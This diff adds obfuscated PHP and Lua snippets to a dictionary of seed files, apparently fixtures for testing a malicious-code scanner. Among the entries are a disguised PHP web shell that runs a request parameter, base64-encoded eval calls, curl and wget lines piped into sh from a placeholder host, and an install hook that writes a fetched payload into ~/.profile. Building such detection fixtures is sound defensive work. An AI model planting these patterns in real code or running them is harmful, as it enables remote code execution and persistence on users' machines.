@@ -96,6 +96,8 @@ MADE = {
     **archive_seeds.MADE,
     "hello.py": b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl|sh')",
     "postinst": b'#!/bin/sh\nset -e\nX=$(curl -s h | base64 -d)\neval "$X" >> ~/.profile\n',
+    "a.php": b"<?php $f = strrev('metsys'); $f($_GET['x']); eval(base64_decode('ZWNobyAxOw=='));\n",
+    "a.lua": b"local s = string.char(112, 49)\nload(s)()\nos.execute('wget -qO- h | sh')\n",
     "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
     "hello.js": b"const {x: y} = require('child_process'); eval(atob('YWxlcnQoMSk=')); y(`a${1}`)",
 }
